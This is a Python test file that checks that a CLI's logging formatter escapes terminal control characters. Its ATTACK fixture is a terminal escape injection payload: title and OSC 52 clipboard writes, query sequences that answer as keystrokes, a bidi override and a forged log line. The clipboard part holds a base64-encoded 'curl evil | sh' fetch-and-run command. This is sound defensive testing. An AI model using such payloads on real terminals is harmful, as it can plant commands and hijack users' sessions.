"""Log lines never carry control characters to a terminal: the CLI's handler escapes what call sites missed."""

from __future__ import annotations

import io
import logging
import subprocess
import sys

from core_helpers import cli_env
from glyphcast.logs import EscapingFormatter, escape, stderr_handler
from hypothesis import given
from hypothesis import strategies as st

#: What a request path carried in the red team's attack: a title, a clipboard write (OSC 52),
#: a cursor-position query and a device-attributes query (their answers come back as keystrokes).
ATTACK = "/\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[6n\x1b[c\x9b6n\u202eabc\r\nglyphcast: forged line"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


def logged(formatter: logging.Formatter, *args: object, exc: bool = False) -> str:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(formatter)
    logger = logging.getLogger("glyphcast.test.logs")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        if exc:
            try:
                raise ValueError(*args)
            except ValueError:
                logger.exception("failed on %s", *args)
        else:
            logger.warning("refused GET %s: bad Host", *args)
    finally:
        logger.removeHandler(handler)
        logger.propagate = True
    return stream.getvalue()


def test_escape_writes_control_characters_as_their_escapes() -> None:
    assert escape("a\x1b[6nb\x07\u202e\x9b\n") == "a\\x1b[6nb\\x07\\u202e\\x9b\\x0a"
    assert escape("plain café ✓") == "plain café ✓"


def test_a_quoted_escape_sequence_reaches_the_log_as_text_on_one_line() -> None:
    line = logged(EscapingFormatter("glyphcast: %(message)s"), ATTACK)
    assert not any(raw in line for raw in RAW), line
    assert line.count("\n") == 1 and "\\x1b]52;c;" in line and "\\x1b[6n" in line


def test_a_traceback_keeps_its_lines_and_loses_its_control_characters() -> None:
    text = logged(EscapingFormatter("%(message)s"), ATTACK, exc=True)
    assert "Traceback (most recent call last):" in text and text.count("\n") > 3
    assert not any(raw in text for raw in RAW), text


@given(st.text())
def test_no_control_character_survives_the_formatter(quoted: str) -> None:
    line = logged(EscapingFormatter("%(message)s"), quoted)
    assert line.endswith("\n")
    body = line[:-1]
    assert not any(
        ord(c) < 0x20
        or 0x7F <= ord(c) <= 0x9F
        or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
        for c in body
    )


def test_stderr_handler_uses_the_escaping_formatter() -> None:
    stream = io.StringIO()
    handler = stderr_handler(stream)
    handler.handle(logging.LogRecord("glyphcast", logging.WARNING, __file__, 1, "path %s", (ATTACK,), None))
    assert "\x1b" not in stream.getvalue() and stream.getvalue().startswith("glyphcast: path /\\x1b]0;")


def test_what_the_glyphcast_command_logs_reaches_stderr_escaped() -> None:
    """The CLI's own logging setup (a real process): a line quoting an attack arrives as text."""
    program = (
        "import logging, sys\n"
        "from glyphcast import cli\n"
        "cli.main(['plugins'])\n"
        "logging.getLogger('glyphcast.websocket').warning('refused GET %s: bad Host', sys.argv[1])\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", program, ATTACK], capture_output=True, timeout=60, env=cli_env()
    )
    assert result.returncode == 0, result.stderr
    assert b"refused GET /\\x1b]0;pwned\\x07" in result.stderr
    for raw in RAW:
        assert raw.encode() not in result.stderr, result.stderr
